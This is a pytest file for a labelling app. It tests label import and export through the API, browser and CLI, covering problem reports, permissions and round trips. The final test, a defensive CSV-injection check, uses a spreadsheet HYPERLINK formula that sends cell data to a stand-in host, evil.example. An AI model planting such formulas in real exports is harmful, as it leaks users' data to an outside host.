"""Label import and export (JSONL and CSV) through the API, the browser and the CLI: annotator
names kept, members recognised by email, problems reported by line and field, nothing stored
when a file has problems, studio labels never overwritten, round trips."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select
from typer.testing import CliRunner

from app.cli import cli
from app.core.config import get_settings
from app.labels.models import Label, LabelRevision
from tests.support.factories import (
    add_label,
    make_pairs,
    make_project,
    make_rollouts,
    make_user,
    make_version,
)
from tests.support.web import csrf_for, data_testids, find_all, login

runner = CliRunner()


@pytest.fixture
def io_world(session: Session):
    owner = make_user(session, "owner@example.com")
    alice = make_user(session, "alice@example.com")
    engineer = make_user(session, "eng@example.com")
    project = make_project(
        session, owner, "IO", members=[(alice, "expert"), (engineer, "engineer")]
    )
    version = make_version(session, project, "generic_pass_fail")
    rollouts = make_rollouts(session, project, 4)
    return {
        "project": project,
        "version": version,
        "rollouts": rollouts,
        "alice": alice,
        "engineer": engineer,
        "owner": owner,
    }


def _jsonl(*records: dict) -> str:
    return "".join(json.dumps(r) + "\n" for r in records)


def test_api_import_keeps_names_and_maps_member_emails(
    client: TestClient, session: Session, io_world
) -> None:
    w = io_world
    login(client, "eng@example.com")
    token = csrf_for(client, "/")
    content = _jsonl(
        {
            "rollout": "r-0000",
            "annotator": "Maître Dupont",
            "values": {"Safe": "pass", "Clear": False},
            "critiques": {"Clear": "trop long"},
            "submitted_at": "2024-05-01T10:00:00Z",
        },
        {"rollout": "r-0001", "annotator": "ALICE@example.com", "values": {"Safe": "fail"}},
    )
    response = client.post(
        f"/api/v1/projects/{w['project'].id}/labels/import",
        json={"rubric_version_id": w["version"].id, "format": "jsonl", "content": content},
        headers={"X-CSRF-Token": token},
    )
    assert response.status_code == 200, response.text
    assert response.json() == {
        "created": 2,
        "updated": 0,
        "unchanged": 0,
        "skipped": 0,
        "problems": [],
    }
    dupont, alice = session.exec(select(Label).order_by(Label.id)).all()
    assert dupont.annotator_name == "Maître Dupont" and dupont.annotator_id is None
    assert dupont.annotator_key == "name:Maître Dupont" and dupont.source == "import"
    assert dupont.values == {"Safe": True, "Clear": False}
    assert dupont.critiques == {"Clear": "trop long"}
    assert dupont.submitted_at.year == 2024
    assert alice.annotator_id == w["alice"].id and alice.annotator_key == f"user:{w['alice'].id}"

    # Importing the same file again changes nothing; a changed value updates, keeping history.
    again = client.post(
        f"/api/v1/projects/{w['project'].id}/labels/import",
        json={"rubric_version_id": w["version"].id, "format": "jsonl", "content": content},
        headers={"X-CSRF-Token": token},
    ).json()
    assert (again["created"], again["unchanged"]) == (0, 2)
    changed = content.replace('"Clear": false', '"Clear": true')
    updated = client.post(
        f"/api/v1/projects/{w['project'].id}/labels/import",
        json={"rubric_version_id": w["version"].id, "format": "jsonl", "content": changed},
        headers={"X-CSRF-Token": token},
    ).json()
    assert updated["updated"] == 1
    assert len(session.exec(select(LabelRevision)).all()) == 1


def test_problems_are_reported_by_line_and_nothing_is_stored(
    client: TestClient, session: Session, io_world
) -> None:
    w = io_world
    login(client, "eng@example.com")
    token = csrf_for(client, "/")
    content = "\n".join(
        [
            json.dumps({"rollout": "r-0000", "annotator": "A", "values": {"Safe": "pass"}}),
            "{not json",
            json.dumps({"rollout": "r-9999", "annotator": "A", "values": {"Safe": "pass"}}),
            json.dumps({"rollout": "r-0001", "annotator": "A", "values": {"Safe": "maybe"}}),
            json.dumps({"rollout": "r-0002", "values": {"Safe": "pass"}}),
            json.dumps({"rollout": "r-0003", "annotator": "A", "values": {"Nope": 1}}),
            json.dumps({"rollout": "r-0000", "annotator": "A", "values": {"Safe": "fail"}}),
        ]
    )
    url = f"/api/v1/projects/{w['project'].id}/labels/import"
    body = {"rubric_version_id": w["version"].id, "format": "jsonl", "content": content}
    response = client.post(url, json=body, headers={"X-CSRF-Token": token})
    assert response.status_code == 422
    problems = {(p["line"], p["field"]) for p in response.json()["problems"]}
    assert problems == {
        (2, "line"),
        (3, "rollout"),
        (4, "Safe"),
        (5, "annotator"),
        (6, "Nope"),
        (7, "annotator"),
    }
    assert session.exec(select(Label)).all() == []
    partial = client.post(url, json={**body, "skip_invalid": True}, headers={"X-CSRF-Token": token})
    assert partial.status_code == 200
    assert partial.json()["created"] == 1 and partial.json()["skipped"] == 6
    assert len(session.exec(select(Label)).all()) == 1


def test_a_file_never_overwrites_a_label_entered_in_the_studio(
    client: TestClient, session: Session, io_world
) -> None:
    w = io_world
    add_label(session, w["project"], w["version"], w["rollouts"][0], w["alice"], {"Safe": True})
    login(client, "eng@example.com")
    token = csrf_for(client, "/")
    content = _jsonl(
        {"rollout": "r-0000", "annotator": "alice@example.com", "values": {"Safe": "fail"}}
    )
    response = client.post(
        f"/api/v1/projects/{w['project'].id}/labels/import",
        json={
            "rubric_version_id": w["version"].id,
            "format": "jsonl",
            "content": content,
            "skip_invalid": True,
        },
        headers={"X-CSRF-Token": token},
    ).json()
    assert response["created"] == 0 and response["skipped"] == 1
    assert "does not overwrite" in response["problems"][0]["message"]
    (label,) = session.exec(select(Label)).all()
    assert label.values == {"Safe": True}


def test_browser_csv_import_and_export_round_trip(
    client: TestClient, session: Session, io_world
) -> None:
    w = io_world
    pid = w["project"].id
    login(client, "eng@example.com")
    page = client.get(f"/projects/{pid}/labels")
    assert page.status_code == 200 and "import-form" in data_testids(page.text)
    token = csrf_for(client, f"/projects/{pid}/labels")
    csv_text = (
        "rollout,annotator,Safe,Clear,critique:Clear,overall_critique\n"
        'r-0000,Jane Roe,pass,fail,"too long, by far",fine\n'
        "r-0001,Jane Roe,fail,,,\n"
    )
    response = client.post(
        f"/projects/{pid}/labels/import",
        data={"csrf_token": token, "rubric_version_id": str(w["version"].id)},
        files={"file": ("labels.csv", csv_text.encode(), "text/csv")},
    )
    assert response.status_code == 200, response.text
    assert "2 labels imported" in response.text
    exported = client.get(
        f"/projects/{pid}/labels/export?format=csv&rubric_version_id={w['version'].id}"
    )
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    lines = exported.text.splitlines()
    assert lines[0].startswith("rollout,rollout_id,rollout_b,annotator,rubric,rubric_version")
    assert any("Jane Roe" in line and "too long, by far" in line for line in lines[1:])

    # The JSONL export imports into another project with the same rollouts, unchanged.
    jsonl = client.get(f"/projects/{pid}/labels/export?format=jsonl").text
    other = make_project(session, w["owner"], "Copy", members=[(w["engineer"], "engineer")])
    other_version = make_version(session, other, "generic_pass_fail")
    make_rollouts(session, other, 4)
    token = csrf_for(client, f"/projects/{other.id}/labels")
    copied = client.post(
        f"/projects/{other.id}/labels/import",
        data={"csrf_token": token, "rubric_version_id": str(other_version.id)},
        files={"file": ("labels.jsonl", jsonl.encode(), "application/x-ndjson")},
    )
    assert copied.status_code == 200, copied.text
    originals = session.exec(select(Label).where(Label.project_id == pid).order_by(Label.id)).all()
    copies = session.exec(
        select(Label).where(Label.project_id == other.id).order_by(Label.id)
    ).all()
    assert [(c.annotator_name, c.values, c.critiques, c.overall_critique) for c in copies] == [
        (o.annotator_name, o.values, o.critiques, o.overall_critique) for o in originals
    ]


def test_browser_import_shows_every_problem_on_the_page(
    client: TestClient, session: Session, io_world
) -> None:
    w = io_world
    pid = w["project"].id
    login(client, "eng@example.com")
    token = csrf_for(client, f"/projects/{pid}/labels")
    response = client.post(
        f"/projects/{pid}/labels/import",
        data={"csrf_token": token, "rubric_version_id": str(w["version"].id)},
        files={
            "file": ("x.csv", b"rollout,annotator,Safe\nr-0000,A,perhaps\nr-7,A,pass\n", "text/csv")
        },
    )
    assert response.status_code == 422
    assert "import-error" in data_testids(response.text)
    rows = find_all(response.text, "data-testid", "import-problems")
    assert len(rows) == 1 and "perhaps" in response.text and "r-7" in response.text
    not_utf8 = client.post(
        f"/projects/{pid}/labels/import",
        data={"csrf_token": token, "rubric_version_id": str(w["version"].id)},
        files={"file": ("x.csv", "rollout,annotator\n\xe9".encode("latin-1"), "text/csv")},
    )
    assert not_utf8.status_code == 422 and "UTF-8" in not_utf8.text


def test_preference_labels_import_by_pair_and_flip_when_named_backwards(
    client: TestClient, session: Session, io_world
) -> None:
    w = io_world
    version = make_version(session, w["project"], "pairwise_preference")
    rollouts = make_rollouts(session, w["project"], 4, prefix="p")
    pair_one, pair_two = make_pairs(session, w["project"], rollouts)
    login(client, "eng@example.com")
    token = csrf_for(client, "/")
    content = _jsonl(
        {"rollout": "p-0000", "rollout_b": "p-0001", "annotator": "Ann", "preference": "A"},
        {"rollout": "p-0003", "rollout_b": "p-0002", "annotator": "Ann", "preference": "A"},
    )
    response = client.post(
        f"/api/v1/projects/{w['project'].id}/labels/import",
        json={"rubric_version_id": version.id, "format": "jsonl", "content": content},
        headers={"X-CSRF-Token": token},
    )
    assert response.status_code == 200, response.text
    labels = {
        label.pair_id: label.preference
        for label in session.exec(select(Label).where(Label.rubric_version_id == version.id))
    }
    assert labels == {pair_one.id: "A", pair_two.id: "B"}


@pytest.fixture
def cli_env(monkeypatch: pytest.MonkeyPatch, settings) -> None:
    monkeypatch.setenv("RS_DATABASE_URL", settings.resolved_database_url)
    monkeypatch.setenv("RS_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("RS_ENV", "test")
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


def test_cli_import_and_export(cli_env, session: Session, io_world, tmp_path) -> None:
    w = io_world
    source = tmp_path / "labels.jsonl"
    source.write_text(
        _jsonl({"rollout": "r-0002", "annotator": "Counsel K.", "values": {"Safe": "pass"}}),
        encoding="utf-8",
    )
    args = ["labels", "import", str(source), "--project", str(w["project"].id)]
    args += ["--rubric-version", str(w["version"].id), "--user", "eng@example.com"]
    result = runner.invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert "1 labels imported" in result.output
    out = tmp_path / "out.csv"
    exported = runner.invoke(
        cli,
        ["labels", "export", "--project", str(w["project"].id), "--format", "csv", "-o", str(out)],
    )
    assert exported.exit_code == 0, exported.output
    assert "Counsel K." in out.read_text(encoding="utf-8")

    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"rollout": "r-0002"}\n', encoding="utf-8")
    failed = runner.invoke(
        cli,
        [
            "labels",
            "import",
            str(bad),
            "--project",
            str(w["project"].id),
            "--rubric-version",
            str(w["version"].id),
            "--user",
            "eng@example.com",
        ],
    )
    assert failed.exit_code == 1
    assert "line 1: annotator" in failed.output
    expert = runner.invoke(
        cli,
        [
            "labels",
            "import",
            str(source),
            "--project",
            str(w["project"].id),
            "--rubric-version",
            str(w["version"].id),
            "--user",
            "alice@example.com",
        ],
    )
    assert expert.exit_code == 1 and "(expert) may not do this" in expert.output


def test_an_export_does_not_reveal_colleagues_labels_before_her_own(
    client: TestClient, session: Session, io_world
) -> None:
    from app.labels import queues

    w = io_world
    bob = make_user(session, "bob@example.com")
    from app.projects import service as project_service

    project_service.add_member(
        session, w["project"], email=bob.email, role="expert", actor=w["owner"]
    )
    add_label(session, w["project"], w["version"], w["rollouts"][0], bob, {"Safe": False})
    queues.create_queue(
        session,
        w["project"],
        actor=w["owner"],
        name="Alice's",
        rubric_version_id=w["version"].id,
        assignee_ids=[w["alice"].id],
        overlap=1,
        selection=queues.QueueSelection(search="r-0000"),
    )
    login(client, "alice@example.com")
    hidden = client.get(f"/api/v1/projects/{w['project'].id}/labels/export?format=jsonl")
    assert hidden.status_code == 200 and hidden.text == ""
    login(client, "eng@example.com")
    shown = client.get(f"/api/v1/projects/{w['project'].id}/labels/export?format=jsonl")
    assert json.loads(shown.text)["annotator"] == "bob@example.com"


def test_csv_export_neutralises_formulas_and_imports_them_back_as_text(
    client: TestClient, session: Session, io_world
) -> None:
    """OWASP CSV injection: a critique or annotator name a spreadsheet would run is exported as
    text (a leading quote), and importing the export gives back exactly what was typed."""
    w = io_world
    pid = w["project"].id
    login(client, "eng@example.com")
    token = csrf_for(client, f"/projects/{pid}/labels")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    csv_text = (
        "rollout,annotator,Safe,critique:Safe,overall_critique\n"
        f'r-0000,@SUM(1+1),pass,"{formula.replace(chr(34), chr(34) * 2)}",-2+3\n'
    )
    imported = client.post(
        f"/projects/{pid}/labels/import",
        data={"csrf_token": token, "rubric_version_id": str(w["version"].id)},
        files={"file": ("labels.csv", csv_text.encode(), "text/csv")},
    )
    assert imported.status_code == 200, imported.text
    exported = client.get(
        f"/projects/{pid}/labels/export?format=csv&rubric_version_id={w['version'].id}"
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["annotator"] == "'@SUM(1+1)"
    assert rows[0]["critique:Safe"] == "'" + formula
    assert rows[0]["overall_critique"] == "'-2+3"
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), cell

    other = make_project(session, w["owner"], "Copy", members=[(w["engineer"], "engineer")])
    other_version = make_version(session, other, "generic_pass_fail")
    make_rollouts(session, other, 4)
    token = csrf_for(client, f"/projects/{other.id}/labels")
    copied = client.post(
        f"/projects/{other.id}/labels/import",
        data={"csrf_token": token, "rubric_version_id": str(other_version.id)},
        files={"file": ("labels.csv", exported.text.encode(), "text/csv")},
    )
    assert copied.status_code == 200, copied.text
    (label,) = session.exec(select(Label).where(Label.project_id == other.id)).all()
    assert label.annotator_name == "@SUM(1+1)"
    assert label.critiques == {"Safe": formula}
    assert label.overall_critique == "-2+3"
